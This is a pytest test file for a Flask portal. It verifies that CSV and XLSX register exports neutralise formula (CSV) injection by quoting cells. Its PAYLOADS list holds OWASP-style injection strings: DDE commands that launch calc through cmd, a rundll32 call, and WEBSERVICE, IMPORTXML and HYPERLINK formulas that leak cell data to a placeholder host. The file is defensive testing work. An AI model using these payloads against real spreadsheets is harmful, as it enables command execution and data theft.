"""Formula injection (OWASP CSV injection): every register's CSV export and the XLSX writer
show a cell that starts like a formula as the text it is, never as a formula or a DDE call."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import zipfile

import pytest
from flask import request
from flask_login import login_user
from openpyxl import load_workbook

from portal.complaints import registers as complaint_registers
from portal.core import registers as core
from portal.core import xlsx
from portal.core.downloads import CSV
from portal.demo import load_demo
from portal.extensions import db
from portal.seals.models import SealRequest, SealRequestItem
from portal.seals.registers import REGISTER as SEALS
from portal.supplies import registers as supply_registers

# The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection) and the
# usual variants: each leading character, DDE, hyperlinks, web calls, the tab/CR/LF prefixes
# and a separator or quote that tries to start a new cell with a formula.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","点我")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://x/?"&A1)',
    '=HYPERLINK("http://x?leak="&A1&B1,"Error: please click")',
    "-1",  # a minus and a digit, yet text: stays a number only when it is one (below)
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    '=1+2";=1+2',
    "a;=1+1",
    "a,=1+1",
    'a";=1+1;"',
]
DANGEROUS = xlsx.FORMULA_STARTS
REGISTERS = {
    "seals": SEALS,
    "complaints": complaint_registers.COMPLAINTS,
    "complaint_returns": complaint_registers.RETURNS,
    "complaint_claims": complaint_registers.CLAIMS,
    "supplies": supply_registers.REQUISITIONS,
    "supply_purchases": supply_registers.PURCHASES,
    "supply_ledger": supply_registers.LEDGER,
    "supply_stock": supply_registers.STOCK,
    "supply_plans": supply_registers.PLANS,
}
CSV_URLS = ["/seals/register.csv", "/supplies/register.csv", "/supplies/purchases/register.csv",
            "/supplies/ledger.csv", "/complaints/register.csv", "/complaints/claims/register.csv",
            "/complaints/returns/register.csv"]  # fmt: skip


def _poisoned(register, start: int = 0):
    """The register with every cell of every column the next payload, from PAYLOADS[start]."""
    payloads = itertools.islice(itertools.cycle(PAYLOADS), start, None)
    columns = tuple(
        dataclasses.replace(c, value=lambda row: next(payloads)) for c in register.columns
    )
    return dataclasses.replace(register, columns=columns)


def _export(app, user, register, fmt):
    with app.test_request_context("/"):
        login_user(user)
        return core.export(register, fmt, request.args).get_data()


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _formula_like(cell: str) -> bool:
    return cell.startswith(DANGEROUS) and not core._PLAIN_NUMBER.fullmatch(cell)


@pytest.fixture
def demo(app, org):
    load_demo()
    db.session.commit()
    return org


def test_csv_cell_prefixes_every_payload_with_a_quote():
    for payload in PAYLOADS:
        cell = core.csv_cell(payload)
        assert cell == (payload if payload == "-1" else "'" + payload) or not _formula_like(payload)
        assert not _formula_like(cell)
    assert core.csv_cell("-1,280.50") == "-1,280.50" and core.csv_cell("92.5%") == "92.5%"
    assert core.csv_cell("合同") == "合同" and core.csv_cell("a=1") == "a=1"


def _csv_cells(app, user, key, register, start):
    rows = _csv_rows(_export(app, user, _poisoned(register, start), "csv"))
    assert len(rows) > 1, f"the demo data has no {key} rows"
    # One field per column: no separator, quote or line break inside a value split a cell.
    assert {len(row) for row in rows} == {len(register.columns)}, key
    return [cell for row in rows[1:] for cell in row]


def _xlsx_cells(app, user, key, register, start):
    data = _export(app, user, _poisoned(register, start), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) for n in sheets), key
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def _csv_held(cell: str, payload: str) -> bool:
    return cell == core.csv_cell(payload) and not _formula_like(cell)


def _xlsx_held(cell, payload: str) -> bool:
    # XML reads a stored CR back as LF; the cell is still the text typed.
    return (
        cell.value in (payload, payload.replace("\r", "\n"))
        and cell.data_type == "s"
        and (cell.quotePrefix or not payload.startswith(DANGEROUS))
    )


def test_every_register_export_neutralises_every_payload(app, demo):
    """Each register's CSV and XLSX export with every cell a payload (more exports when a
    register has fewer cells than payloads): (register, payload, format) is tried, and held
    when every cell of that payload comes out as text."""
    tried, failed = set(), set()
    checks = {"csv": (_csv_cells, _csv_held), "xlsx": (_xlsx_cells, _xlsx_held)}
    for key, register in REGISTERS.items():
        for fmt, (cells_of, held) in checks.items():
            start = 0
            while start < len(PAYLOADS):
                cells = cells_of(app, demo["admin"], key, register, start)
                for n, cell in enumerate(cells):
                    payload = PAYLOADS[(start + n) % len(PAYLOADS)]
                    tried.add((key, payload, fmt))
                    if not held(cell, payload):
                        failed.add((key, payload, fmt))
                start += len(cells)
    print(f"register exports: tried {len(tried)}, held {len(tried - failed)}")
    assert len(tried) == len(REGISTERS) * len(PAYLOADS) * 2
    assert failed == set()


def test_the_xlsx_writer_keeps_every_payload_as_typed_text():
    data = xlsx.write([xlsx.Sheet("表", ["说明"], [[p] for p in PAYLOADS])])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(data)).active
    tried = held = 0
    for payload, (cell,) in zip(PAYLOADS, sheet.iter_rows(min_row=2), strict=True):
        tried += 1
        # XML turns a stored CR into LF on reading; the cell is still text, not a formula.
        shown = payload.replace("\r", "\n")
        held += (
            cell.value in (payload, shown)
            and cell.data_type == "s"
            and (cell.quotePrefix or not payload.startswith(DANGEROUS))
        )
    assert (tried, held) == (len(PAYLOADS), len(PAYLOADS))


def test_a_document_name_typed_as_a_formula_goes_out_as_text(client, login, demo):
    """End to end: user-entered text in a real record, through the register URLs."""
    items = db.session.scalars(
        db.select(SealRequestItem).where(SealRequestItem.stamped_at.is_not(None))
    ).all()
    requests = {item.request_id for item in items}
    for payload, request_id in zip(itertools.cycle(PAYLOADS[5::-5]), sorted(requests)):
        db.session.get(SealRequest, request_id).document_name = payload
        db.session.get(SealRequest, request_id).receiving_party = payload
    db.session.commit()
    login("admin")
    response = client.get("/seals/register.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.data)
    document = [c.key for c in SEALS.columns].index("document")
    names = {row[document] for row in rows[1:]}
    assert "'=1+1" in names and '\'=HYPERLINK("http://x","点我")' in names
    assert not [c for row in rows for c in row if _formula_like(c)]
    book = load_workbook(io.BytesIO(client.get("/seals/register.xlsx").data)).active
    (column,) = book.iter_cols(min_row=2, min_col=document + 1, max_col=document + 1)
    assert any(c.value == PAYLOADS[0] and c.quotePrefix and c.data_type == "s" for c in column)


def test_csv_exports_name_their_charset_once(client, login):
    login("admin")
    for url in CSV_URLS:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Content-Type"] == CSV == "text/csv; charset=utf-8", url
